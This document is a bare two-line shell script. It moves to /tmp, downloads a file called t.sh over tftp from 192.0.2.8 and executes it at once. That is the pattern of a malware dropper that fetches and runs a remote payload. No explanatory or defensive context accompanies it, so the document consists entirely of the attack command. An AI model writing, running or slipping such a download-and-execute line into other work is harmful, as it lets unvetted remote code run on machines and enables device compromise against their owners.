#!/bin/sh
cd /tmp; tftp 192.0.2.8 -c get t.sh; sh t.sh
